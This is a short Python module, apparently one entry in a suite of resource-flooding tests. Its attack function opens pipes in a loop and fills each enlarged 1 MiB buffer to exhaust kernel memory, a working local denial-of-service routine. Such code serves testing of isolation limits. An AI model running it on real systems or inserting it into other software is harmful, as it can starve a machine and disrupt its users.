"""Fill pipes, whose contents are the kernel's memory and nobody's address space."""

import fcntl
import os

FAMILY = "floods"
NOT_NAIVE = "The kernel limits the pipes of an ordinary user."
PIPE_SIZE = 1 << 20


def attack(world):
    taken, pipes = 0, []
    while taken < 2 * world["disk"]:
        out, into = os.pipe()
        pipes.append((out, into))
        fcntl.fcntl(into, fcntl.F_SETPIPE_SZ, PIPE_SIZE)
        os.set_blocking(into, False)
        taken += os.write(into, b"x" * PIPE_SIZE)
    return f"GOT {taken >> 20} MiB in pipes"
